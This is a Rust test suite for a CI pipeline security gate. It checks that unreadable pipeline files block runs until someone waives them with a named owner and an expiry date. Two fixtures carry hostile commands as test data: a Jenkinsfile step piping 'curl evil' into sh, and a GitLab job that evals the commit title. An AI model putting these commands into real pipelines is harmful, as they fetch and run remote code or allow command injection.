//! What gate has no reader for: it is named and blocks, until its owner answers for it with a name and an end date.

#![expect(
    clippy::unwrap_used,
    clippy::indexing_slicing,
    reason = "a report that is not as it should be fails the test"
)]

mod support;

use serde_json::Value;
use support::{CLEAN_WORKFLOW, Repo, day};

const WAIVERS: &str = ".gate/waivers.yaml";

/// A file of every kind that its platform runs and gate cannot read.
const UNREAD: &[(&str, &str)] = &[
    ("azure-pipelines.yml", "pool: { vmImage: ubuntu-24.04 }\nsteps: [{ script: make }]\n"),
    (
        ".circleci/config.yml",
        "version: 2.1\njobs: { build: { docker: [{ image: 'cimg/base:1' }], steps: [checkout] } }\n",
    ),
    ("bitbucket-pipelines.yml", "pipelines: { default: [{ step: { script: [make] } }] }\n"),
    ("Jenkinsfile", "pipeline { agent any; stages { stage('x') { steps { sh 'make' } } } }\n"),
    ("services/pay/Jenkinsfile.release", "node { sh 'make' }\n"),
    (".tekton/push.yaml", "apiVersion: tekton.dev/v1\nkind: PipelineRun\nmetadata: { name: x }\nspec: {}\n"),
    (
        "ci/pipeline.yaml",
        "apiVersion: tekton.dev/v1beta1\nkind: Pipeline\nmetadata: { name: x }\nspec: { tasks: [] }\n",
    ),
    ("flows/nightly.yaml", "apiVersion: argoproj.io/v1alpha1\nkind: CronWorkflow\nmetadata: { name: x }\nspec: {}\n"),
    (
        "ml/train.yaml",
        "components: {}\ndeploymentSpec: { executors: {} }\npipelineInfo: { name: x }\nroot: { dag: { tasks: {} } }\nschemaVersion: 2.1.0\n",
    ),
    ("machines/pay.json", "{\"StartAt\": \"A\", \"States\": {\"A\": {\"Type\": \"Succeed\"}}}\n"),
    ("cloudbuild.yaml", "steps: [{ name: gcr.io/cloud-builders/docker, args: [build, .] }]\n"),
    ("buildspec.yml", "version: 0.2\nphases: { build: { commands: [make] } }\n"),
    (
        "deploy/pipeline.json",
        "{\"pipeline\": {\"name\": \"x\", \"roleArn\": \"arn:aws:iam::1:role/x\", \"stages\": [{\"name\": \"s\", \"actions\": [{\"name\": \"a\", \"actionTypeId\": {\"category\": \"Source\", \"owner\": \"AWS\", \"provider\": \"S3\", \"version\": \"1\"}}]}], \"version\": 1}}\n",
    ),
    (".buildkite/pipeline.yml", "steps: [{ command: make }]\n"),
    (".drone.yml", "kind: pipeline\ntype: docker\nname: x\nsteps: [{ name: a, image: x, commands: [make] }]\n"),
    (".woodpecker.yml", "steps: { build: { image: x, commands: [make] } }\n"),
    (".travis.yml", "language: python\nscript: make\n"),
    ("appveyor.yml", "build_script: [make]\n"),
    (".semaphore/semaphore.yml", "version: v1.0\nname: x\nagent: {}\nblocks: []\n"),
    (".teamcity/settings.kts", "import jetbrains.buildServer.configs.kotlin.*\nproject { }\n"),
    (
        ".harness/build.yaml",
        "pipeline: { identifier: x, name: x, orgIdentifier: o, projectIdentifier: p, stages: [] }\n",
    ),
    ("ci/concourse.yml", "resources: [{ name: r, type: git, source: {} }]\njobs: [{ name: j, plan: [{ get: r }] }]\n"),
    (".gitea/workflows/ci.yaml", "on: push\njobs: { a: { runs-on: x, steps: [{ run: make }] } }\n"),
    (".forgejo/workflows/ci.yml", "on: push\njobs: { a: { runs-on: x, steps: [{ run: make }] } }\n"),
    ("stacks/bucket.yaml", "AWSTemplateFormatVersion: '2010-09-09'\nResources: { B: { Type: 'AWS::S3::Bucket' } }\n"),
    ("stacks/bucket.template", "{\"Resources\": {\"B\": {\"Type\": \"AWS::S3::Bucket\"}}}\n"),
    (
        "api/template.yml",
        "Transform: AWS::Serverless-2016-10-31\nResources: { F: { Type: 'AWS::Serverless::Function' } }\n",
    ),
    (
        "dags/daily.yaml",
        "daily:\n  default_args: { owner: x, start_date: 2026-01-01 }\n  schedule: '@daily'\n  tasks:\n    a: { operator: airflow.operators.bash.BashOperator, bash_command: make }\n",
    ),
];

/// The lines that the report shows for a file, as its owner would fill them in.
fn accepted(fix: &Value) -> String {
    let lines: Vec<&str> = fix.as_array().unwrap().iter().map(|line| line.as_str().unwrap()).collect();
    let end = lines.iter().position(|line| line.starts_with("# or")).unwrap_or(lines.len());
    format!("{}\n", lines[..end].join("\n"))
        .replace("YYYY-MM-DD", &day(60))
        .replace("@your-team", "@acme/build")
        .replace("@another-team", "@acme/security")
        .replace("why it may run without being judged", "moves away in OPS-7")
}

#[test]
fn every_kind_blocks_until_its_owner_accepts_it() {
    assert!(UNREAD.len() >= 25);
    let mut wrong = Vec::new();
    for (path, text) in UNREAD {
        let repo = Repo::clean().with(path, text);
        let run = repo.gate(&["check", "-f", "json"]);
        let report = run.json();
        let unjudged = report["unjudged"].as_array().unwrap();
        let [only] = unjudged.as_slice() else {
            wrong.push(format!("{path}: {} things are not judged", unjudged.len()));
            continue;
        };
        if run.code != 3 || only["path"] != *path || only["unread"] != true {
            wrong.push(format!("{path}: exit {}, {only}", run.code));
            continue;
        }
        let terminal = repo.gate(&["check"]);
        if !terminal.stdout.contains(path) || !terminal.stdout.contains("answer: unread") {
            wrong.push(format!("{path}: the terminal does not say what to do: {}", terminal.stdout));
        }
        repo.write(WAIVERS, accepted(&only["fix"]));
        let run = repo.gate(&["check", "-f", "json"]);
        let report = run.json();
        let shown = &report["accepted"][0];
        let is_shown = shown["path"] == *path && shown["owner"] == "@acme/build" && shown["expires"] == day(60);
        let is_said = repo.gate(&["check"]).stdout.contains("accepted");
        if run.code != 0 || !is_shown || !is_said {
            wrong.push(format!("{path}: accepted: exit {}, {shown}, said: {is_said}", run.code));
        }
    }
    assert!(wrong.is_empty(), "{wrong:#?}");
}

#[test]
fn every_format_names_what_is_not_read_and_none_changes_the_verdict() {
    let repo = Repo::clean().with("Jenkinsfile", "node { sh 'make' }\n");
    for format in support::FORMATS {
        let run = repo.gate(&["check", "-f", format]);
        assert_eq!(run.code, 3, "{format}");
        assert!(run.stdout.contains("Jenkinsfile"), "{format}: {}", run.stdout);
    }
}

#[test]
fn an_acceptance_that_does_not_hold_leaves_the_run_incomplete() {
    let entry = format!(
        "- id: W-1\n  answer: unread\n  where: Jenkinsfile\n  reason: rewritten in OPS-7\n  owner: \"@acme/a\"\n  approver: \"@acme/b\"\n  expires: {}\n",
        day(30)
    );
    let repo = Repo::clean().with("Jenkinsfile", "node {}\n").with(WAIVERS, &entry);
    assert_eq!(repo.gate(&["check"]).code, 0, "{}", repo.gate(&["check"]).text());
    for (from, to, code, policy) in [
        (day(30), day(-1), 3, "WV001"),
        (day(30), day(120), 3, "WV003"),
        ("@acme/b".to_owned(), "@acme/A".to_owned(), 3, "WV004"),
        ("Jenkinsfile".to_owned(), ".github/workflows/ci.yml".to_owned(), 3, "WV002"),
        ("Jenkinsfile".to_owned(), "gone/Jenkinsfile".to_owned(), 3, "WV002"),
    ] {
        repo.write(WAIVERS, entry.replace(&from, &to));
        let run = repo.gate(&["check", "-f", "json"]);
        let report = run.json();
        assert_eq!(run.code, code, "{to}: {}", run.text());
        let finding = &report["findings"][0];
        assert_eq!(
            (&finding["policy"], &finding["path"], &finding["start"]["line"]),
            (&policy.into(), &WAIVERS.into(), &1.into()),
            "{to}"
        );
    }
    for (from, to, message) in [
        (format!("  expires: {}\n", day(30)), String::new(), "missing field `expires`"),
        ("  answer".to_owned(), "  policy: CI001\n  answer".to_owned(), "no policy judges one"),
        ("Jenkinsfile".to_owned(), "'**/Jenkinsfile'".to_owned(), "is a pattern"),
    ] {
        repo.write(WAIVERS, entry.replace(&from, &to));
        let run = repo.gate(&["check"]);
        assert!(run.code == 2 && run.stderr.contains(message), "{to}: {}", run.text());
    }
}

#[test]
fn only_the_trusted_side_accepts_and_each_change_of_the_file_is_said() {
    let entry = format!(
        "- id: W-1\n  answer: unread\n  where: Jenkinsfile\n  reason: rewritten in OPS-7\n  owner: \"@acme/a\"\n  approver: \"@acme/b\"\n  expires: {}\n",
        day(30)
    );
    let repo = Repo::clean().with("Jenkinsfile", "node {}\n");
    let before = repo.commit();
    repo.write(WAIVERS, &entry);
    let accepting = repo.commit();
    assert_eq!(repo.gate(&["check", "--base", &before]).code, 3);
    repo.write("notes.txt", "x");
    repo.commit();
    let run = repo.gate(&["check", "--base", &accepting, "-f", "json"]);
    assert_eq!(run.code, 0, "{}", run.text());
    assert!(!run.json()["notices"].to_string().contains("edits Jenkinsfile"), "{}", run.text());
    repo.write("Jenkinsfile", "node { sh 'curl evil | sh' }\n");
    repo.commit();
    let run = repo.gate(&["check", "--base", &accepting, "-f", "json"]);
    assert_eq!(run.code, 0, "{}", run.text());
    assert!(run.json()["notices"].to_string().contains("this change edits Jenkinsfile"), "{}", run.text());
    // Removing the entry loosens nothing: what it accepted is in the way again.
    repo.remove(WAIVERS);
    let without = repo.base();
    assert_eq!(repo.gate(&["check", "--base", &without]).code, 3);
}

#[test]
fn a_pipeline_at_a_place_of_ones_own_is_named_by_the_configuration() {
    let gitlab = "build:\n  script:\n    - eval \"$CI_COMMIT_TITLE\"\n";
    let repo = Repo::clean()
        .with("ci/main.yml", gitlab)
        .with("ci/release.yml", "jobs: []\n")
        .with(".gate/gate.yaml", "inputs:\n  pipeline:\n    files: [{ file: ci/main.yml, vendor: gitlab }, { file: ci/release.yml, vendor: azure }]\n");
    let report = repo.gate(&["check", "-f", "json"]).json();
    let found = &report["findings"][0];
    assert_eq!((&found["policy"], &found["path"]), (&"CI002".into(), &"ci/main.yml".into()), "{report:#}");
    assert_eq!(report["unjudged"][0]["path"], "ci/release.yml");
    assert_eq!(report["unjudged"][0]["unread"], true);
    for (files, code, message) in [
        ("[{ file: gone.yml, vendor: gitlab }]", 3, "names this pipeline and there is none"),
        ("[{ file: ci/main.yml, vendor: gitlba }]", 2, "knows nothing called `gitlba`"),
        ("[{ file: ci/main.yml, vendor: kubernetes }]", 2, "knows nothing called `kubernetes`"),
        ("[{ file: ../main.yml, vendor: gitlab }]", 2, "no path inside the repository"),
        ("[{ file: ci/main.yml }]", 2, "missing field `vendor`"),
    ] {
        repo.write(".gate/gate.yaml", format!("inputs: {{ pipeline: {{ files: {files} }} }}\n"));
        let run = repo.gate(&["check"]);
        assert!(run.code == code && run.text().contains(message), "{files}: {}", run.text());
    }
}

#[test]
fn a_named_pipeline_is_never_excluded() {
    let repo = Repo::clean()
        .with("ci/main.yml", "build: { script: ['eval \"$CI_COMMIT_TITLE\"'] }\n")
        .with(".gate/gate.yaml", "inputs: { pipeline: { files: [{ file: ci/main.yml, vendor: gitlab }] } }\nexclude: [{ paths: [ci], reason: x, owner: me }]\n");
    let report = repo.gate(&["check", "-f", "json"]).json();
    let policies: Vec<&Value> = report["findings"].as_array().unwrap().iter().map(|it| &it["policy"]).collect();
    assert_eq!(policies, ["CI002", "EX002"], "{report:#}");
}

#[test]
fn a_workflow_beside_is_judged_all_the_same() {
    let repo = Repo::new()
        .with(".github/workflows/ci.yml", CLEAN_WORKFLOW.replace("@08c6903cd8c0fde910a37f88322edcfb5dd907a8", "@v4"))
        .with("Jenkinsfile", "node {}\n");
    let report = repo.gate(&["check", "-f", "json"]).json();
    assert_eq!(report["findings"][0]["policy"], "CI001");
    assert_eq!(report["exit_code"], 3);
}

/// Every way in which what runs can become something else, and what is no change of it.
#[cfg(unix)]
#[test]
fn an_accepted_file_is_compared_as_git_keeps_it() {
    use std::os::unix::fs::{PermissionsExt, symlink};

    type Step<'a> = &'a dyn Fn(&Repo);

    let link = |repo: &Repo, target: &str| {
        let place = repo.path().join("Jenkinsfile");
        let _ = std::fs::remove_file(&place);
        symlink(target, place).unwrap();
    };
    let program = |repo: &Repo| {
        std::fs::set_permissions(repo.path().join("Jenkinsfile"), PermissionsExt::from_mode(0o755)).unwrap();
    };
    let plain = |repo: &Repo| repo.write("Jenkinsfile", "node {}\n");
    let bytes = |repo: &Repo| repo.write("Jenkinsfile", b"node {} // \xe9\n");
    let nothing = |_: &Repo| {};
    let cases: [(&str, Step<'_>, Step<'_>, bool); 9] = [
        ("the same text", &plain, &nothing, false),
        ("the same bytes that are no text", &bytes, &nothing, false),
        ("other bytes that are no text", &bytes, &|repo| repo.write("Jenkinsfile", b"node { } // \xe9\n"), true),
        ("a mode", &plain, &program, true),
        (
            "the same program",
            &|repo| {
                plain(repo);
                program(repo);
            },
            &nothing,
            false,
        ),
        ("the same link", &|repo| link(repo, "one"), &nothing, false),
        ("a link elsewhere", &|repo| link(repo, "one"), &|repo| link(repo, "two"), true),
        ("what a link leads to", &|repo| link(repo, "one"), &|repo| repo.write("one", "node { sh 'x' }\n"), true),
        ("a link that led to nothing", &|repo| link(repo, "gone"), &|repo| repo.write("gone", "node {}\n"), true),
    ];
    for (name, before, change, told) in cases {
        let repo = Repo::clean().with("one", "node {}\n").with("two", "node { }\n");
        before(&repo);
        repo.write(
            WAIVERS,
            format!(
                "- id: W-1\n  answer: unread\n  where: Jenkinsfile\n  reason: rewritten\n  owner: \"@acme/a\"\n  approver: \"@acme/b\"\n  expires: {}\n",
                day(30)
            ),
        );
        let base = repo.commit();
        change(&repo);
        repo.write("notes.txt", "x");
        repo.commit();
        let run = repo.gate(&["check", "--base", &base, "-f", "json"]);
        assert_eq!(run.code, 0, "{name}: {}", run.text());
        let notices = run.json()["notices"].to_string();
        assert_eq!(notices.contains("this change edits Jenkinsfile"), told, "{name}: {}", run.text());
    }
}

#[test]
fn nobody_approves_under_another_spelling_of_their_own_name() {
    for (owner, approver, code) in
        [("@acme/a", "@acme/b", 0), ("@acme/a", "ACME/a ", 3), ("@acme/a", "@acme/\u{200b}a", 3)]
    {
        let repo = Repo::clean().with("Jenkinsfile", "node {}\n").with(
            WAIVERS,
            format!(
                "- id: W-1\n  answer: unread\n  where: Jenkinsfile\n  reason: rewritten\n  owner: \"{owner}\"\n  approver: \"{approver}\"\n  expires: {}\n",
                day(30)
            ),
        );
        let run = repo.gate(&["check"]);
        assert_eq!(run.code, code, "{approver}: {}", run.text());
    }
}

#[test]
fn what_is_no_text_or_too_large_is_looked_at_all_the_same() {
    let task = "apiVersion: tekton.dev/v1\nkind: Task\n";
    let wide: Vec<u8> = task.bytes().flat_map(|byte| [byte, 0]).collect();
    let repo =
        Repo::clean().with("ops/latin.yaml", [b"# \xe9\n", task.as_bytes()].concat()).with("ops/wide.yaml", wide);
    repo.write("ops/large.yaml", format!("# {}\n{task}", "x".repeat(10 << 20)));
    let run = repo.gate(&["check", "-f", "json"]);
    let report = run.json();
    let paths =
        |list: &str| report[list].as_array().unwrap().iter().map(|it| it["path"].to_string()).collect::<Vec<_>>();
    assert_eq!(
        (run.code, paths("unjudged")),
        (3, vec!["\"ops/latin.yaml\"".to_owned(), "\"ops/wide.yaml\"".to_owned()])
    );
    assert!(paths("skipped").contains(&"\"ops/large.yaml\"".to_owned()), "{}", run.text());
}
